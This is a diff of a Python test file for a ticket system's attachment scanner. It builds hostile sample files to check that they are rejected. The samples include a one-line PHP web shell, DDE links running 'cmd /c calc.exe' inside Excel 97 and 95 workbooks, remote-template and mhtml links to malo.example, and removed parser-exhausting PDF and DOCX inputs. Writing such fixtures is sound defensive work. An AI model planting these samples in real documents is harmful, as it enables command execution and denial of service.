@@ -4,7 +4,6 @@ import hashlib
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable
 from io import BytesIO
 
 from tests.tickets.genuine import (
@@ -23,6 +22,8 @@ from tests.tickets.genuine import (
     xls,
     xlsx,
 )
+from tickets.attachments.excel import _md5, _plain_rc4
+from tickets.attachments.rc4 import rc4
 
 EXE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + bytes(200)
 PHP = b"<?php system($_GET['c']); ?>"
@@ -42,6 +43,58 @@ def native(name: str, content: bytes) -> bytes:
 def field(instruction: str) -> bytes:
     """A document whose text has that field."""
     return f"<w:document><w:instrText>{instruction}</w:instrText></w:document>".encode()
+
+
+def record(number: int, body: bytes) -> bytes:
+    """Of a workbook."""
+    return struct.pack("<2H", number, len(body)) + body
+
+
+def link_to(text: str, *items: int, wide: bool = False) -> bytes:
+    """A link of Excel 97, with items of those flags."""
+    coded = text.encode("utf-16-le" if wide else "latin-1")
+    names = b"".join(record(0x23, struct.pack("<HL2B", flags, 0, 2, 0) + b"A1") for flags in items)
+    return record(0x1AE, struct.pack("<2HB", 0, len(text), wide) + coded) + names
+
+
+def old_book(link: bytes, of_sheet: bytes = b"") -> bytes:
+    """A workbook of Excel 95 with a link of its own and one of its sheet."""
+
+    def linked(text: bytes) -> bytes:
+        return record(0x17, bytes((len(text),)) + text) if text else b""
+
+    begin = record(0x0809, struct.pack("<4H", 0x0500, 5, 0, 0))
+    size = len(begin) + len(linked(link)) + 4 + 12 + 4
+    sheet = record(0x0085, struct.pack("<L3B", size, 0, 0, 5) + b"Hoja1")
+    return ole(
+        {"Book": begin + linked(link) + sheet + record(0x0A, b"") + begin + linked(of_sheet) + record(0x0A, b"")}
+    )
+
+
+def password_of_excel() -> bytes:
+    """The record of a workbook that Excel opens with a password of its own."""
+    salt, proof = b"0123456789abcdef", b"fedcba9876543210"
+    key_of, _verifier, _digest = _plain_rc4(bytes(6) + salt + bytes(32))
+    return record(0x2F, struct.pack("<3H", 1, 1, 1) + salt + rc4(key_of(0), proof + _md5(proof)))
+
+
+def protected_workbook(stream: bytes) -> bytes:
+    """The same, encrypted with it as Excel does: the heads of the records stay, and the places of the sheets."""
+    key_of, _verifier, _digest = _plain_rc4(bytes(6) + b"0123456789abcdef" + bytes(32))
+    length = len(record(0x0809, bytes(16)))
+    stream = stream[:length] + PASSWORD + stream[length:]
+    laid = b"".join(rc4(key_of(block), bytes(1024)) for block in range(len(stream) // 1024 + 1))
+    covered, at = bytearray(stream), 0
+    while at < len(stream):
+        number, size = struct.unpack_from("<2H", stream, at)
+        begin = at + 4 + (4 if number == 0x85 else 0)
+        at += 4 + size
+        if number not in {0x0809, 0x2F}:
+            covered[begin:at] = bytes(a ^ b for a, b in zip(stream[begin:at], laid[begin:at], strict=True))
+    return ole({"Workbook": bytes(covered)})
+
+
+PASSWORD = password_of_excel()
 
 
 def edited(content: bytes, mark: bytes, at: int, value: bytes) -> bytes:
@@ -172,6 +225,16 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "remote template": ("a.docx", external("attachedTemplate", "https://malo.example/a.dotm"), REMOTE),
     "template on a share": ("a.docx", external("attachedTemplate", "\\\\malo.example\\a\\a.dotm"), REMOTE),
     "template on a share, as address": ("a.docx", external("attachedTemplate", "file://malo.example/a.dotm"), REMOTE),
+    "template on a share, as Windows writes it": (
+        "a.docx",
+        external("attachedTemplate", "file:////malo/a.dotm"),
+        REMOTE,
+    ),
+    "saved page": (
+        "a.docx",
+        docx(word__afchunk_dot_mht=b"MIME-Version: 1.0\r\n"),
+        "lleva dentro una página web guardada (MHT). Ábralo con Word, guárdelo como .docx",
+    ),
     "remote object": (
         "a.docx",
         external("oleObject", "mhtml:https://malo.example/a!x-usc:https://malo.example/a"),
@@ -226,6 +289,17 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "old macros": ("a.doc", doc({"Macros/VBA/dir": b"x"}), MACROS),
     "old macros of excel": ("a.xls", xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), MACROS),
     "excel 4 macros": ("a.xls", xls(0, 1), MACROS),
+    "dde in an old workbook": ("a.xls", xls(before=link_to("cmd\3/c calc.exe", 0)), COMMANDS),
+    "dde in an old workbook, in 16 bits": ("a.xls", xls(before=link_to("cmd\3/c calc.exe", 0, wide=True)), COMMANDS),
+    "dde without items": ("a.xls", xls(before=link_to("cmd\3/c calc.exe")), COMMANDS),
+    "dde behind an object": (
+        "a.xls",
+        xls(before=link_to("Word.Document.8\3C:\\a.doc", 0x10) + link_to("cmd\3/c calc", 0)),
+        COMMANDS,
+    ),
+    "dde in a workbook of Excel 95": ("a.xls", old_book(b"cmd\3/c calc.exe"), COMMANDS),
+    "dde in a sheet of Excel 95": ("a.xls", old_book(b"", b"cmd\3/c calc.exe"), COMMANDS),
+    "two passwords": ("a.xls", xls(before=PASSWORD * 2), DAMAGED),
     "old password": ("a.doc", doc(flags=0x0100), LOCKED),
     "old password of excel": ("a.xls", xls(before=struct.pack("<8H", 0x2F, 6, 0, 1, 2, 0, 0, 0)[:10]), LOCKED),
     "encrypted package": ("a.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), LOCKED),
@@ -303,83 +377,4 @@ BOMBS = {
     "overlapping members": ("a.docx", overlapping, OVERSIZED),
     "a gigabyte in an object stream": ("a.pdf", object_bomb, OVERSIZED),
     "picture of 144 megapixels": ("a.jpg", lambda: frame(12_000, 12_000) + bytes(1_700_000), "40 megapíxeles"),
-}
-
-
-def filled(piece: bytes, head: bytes = b"%PDF-1.4\n", tail: bytes = b"\nendobj\n%%EOF\n") -> Callable[[], bytes]:
-    """Two megabytes of the same, which a careless reader goes over again and again."""
-    return lambda: head + piece * ((2_000_000 - len(head) - len(tail)) // len(piece)) + tail
-
-
-def part_filled(part: str, piece: bytes, size: int = 19_000_000) -> Callable[[], bytes]:
-    """The same within a part of a package, kept from the limit of the ratio by noise."""
-    return lambda: packed(
-        package(extra={part: b"<a>" + piece * (size // len(piece)), "word/noise.bin": noise(300_000)})
-    )
-
-
-def circles() -> bytes:
-    """A container whose every chain leads back to its beginning."""
-    content = bytearray(doc(text=bytes(1_900_000)))
-    table = len(content) // 512 - 1 - 31
-    for at in range((table + 1) * 512, len(content), 4):
-        content[at : at + 4] = b"\0\0\0\0"
-    return bytes(content)
-
-
-MARKED = b"%PDF-1.4\n1 0 obj stream\n/JS (x)\n"
-# What costs most to read, for each loop of the readers
-GRINDS: dict[str, tuple[str, Callable[[], bytes]]] = {
-    "references to an encryption": ("a.pdf", filled(b"/Encrypt 1 0 R ")),
-    "encryptions of many numbers": ("a.pdf", filled(b"/Encrypt 1 0 R 1 0 obj ")),
-    "identities": ("a.pdf", filled(b"/ID[<", b"%PDF-1.4\n1 0 obj << /Encrypt 1 0 R /Filter /Standard >> endobj ")),
-    "headers": ("a.pdf", filled(b"1 0 obj ", MARKED)),
-    "open texts": ("a.pdf", filled(b"1 0 obj (", MARKED, b")/JS (x) endobj %%EOF")),
-    "open texts and comments": ("a.pdf", filled(b"1 0 obj %(\n(", MARKED, b")/JS (x) endobj %%EOF")),
-    "brackets": ("a.pdf", filled(b"(", MARKED + b"1 0 obj ")),
-    "digits and blanks": ("a.pdf", filled(b"1" * 10 + b" " * 1000)),
-    "names of scripts in a stream": (
-        "a.pdf",
-        filled(b"/JS 1 ", b"%PDF-1.4\n1 0 obj stream\n", b"endstream endobj %%EOF"),
-    ),
-    "scripts without a value": ("a.pdf", filled(b"/JS /a ")),
-    "objects before a false script": ("a.pdf", filled(b"1 0 obj <</A 1/B 2>> endobj\n", MARKED)),
-    "objects before a script in a text": (
-        "a.pdf",
-        filled(b"1 0 obj <</A 1/B 2>> endobj\n", tail=b"1 0 obj (/JS (x)) endobj %%EOF"),
-    ),
-    "headers before a script in a text": ("a.pdf", filled(b"1 0 obj ", tail=b"1 0 obj (/JS (x)) endobj %%EOF")),
-    "object streams without an end": ("a.pdf", filled(b"/ObjStm ")),
-    "object streams of nothing": ("a.pdf", filled(b"1 0 obj /ObjStm stream\n", tail=b"%%EOF")),
-    "packed streams of nothing": ("a.pdf", filled(b"1 0 obj /ObjStm /FlateDecode stream\nxx\xff\xff", tail=b"%%EOF")),
-    "999 streams far from a header": (
-        "a.pdf",
-        filled(b"obj" * 600 + b" /First 1 stream\nendstream ", tail=b"1 0 obj %%EOF"),
-    ),
-    "streams far from a header": ("a.pdf", filled(b"obj /First 1 stream\nendstream ", tail=b"1 0 obj %%EOF")),
-    "outlines": ("a.pdf", filled(b"1 0 obj << /First 12 0 R >> endobj\n")),
-    "attached files": ("a.pdf", filled(b"/EmbeddedFile ")),
-    "names of files": ("a.pdf", filled(b"/EF/F(" + b"a" * 399)),
-    "blanks after a name": ("a.pdf", filled(b"/EF/F" + b" " * 5000)),
-    "numbers in an object stream": (
-        "a.pdf",
-        lambda: object_stream(b"/JS 1", noise(1_500_000).hex().translate(str.maketrans("abcdef", "123 5 ")).encode()),
-    ),
-    "page marks after the end": ("a.pdf", filled(b"<!doctype ", PDF, b"")),
-    "ends of a zip": ("a.jpg", filled(b"PK\5\6", JPEG, b"")),
-    "marks of a picture": ("a.jpg", filled(b"\xff\xe1\0\2", JPEG[:20], b"")),
-    "stray bytes of a picture": ("a.jpg", filled(b"\xff\0", JPEG[:20], b"")),
-    "elements": ("a.docx", part_filled("word/_rels/a.xml.rels", b"&#<a/>", 1_000_000)),
-    "fields": ("a.docx", part_filled("word/a.xml", b"<w:fldSimple ")),
-    "fields without an end": ("a.docx", part_filled("word/a.xml", b"fldSimple instrText")),
-    "field texts": ("a.docx", part_filled("word/a.xml", b"<w:instrText>x</w:instrText>")),
-    "text without an end": ("a.docx", part_filled("word/a.xml", b"\0 ")),
-    "packages in a package": (
-        "a.docx",
-        lambda: packed(package(extra={f"word/{n}.bin": many_entries(50) for n in range(190)})),
-    ),
-    "an ole of circles": ("a.doc", circles),
-    "records": ("a.xls", lambda: ole({"Workbook": struct.pack("<2H", 0x0809, 0) + b"\1\0\0\0" * 480_000})),
-    "sheets": ("a.xls", lambda: ole({"Workbook": struct.pack("<2H", 0x0809, 0) + b"\x85\0\6\0" * 190_000})),
-    "icons": ("a.doc", lambda: doc({f"{n}/\1Ole10Native": native("a.txt", b"") for n in range(400)})),
 }
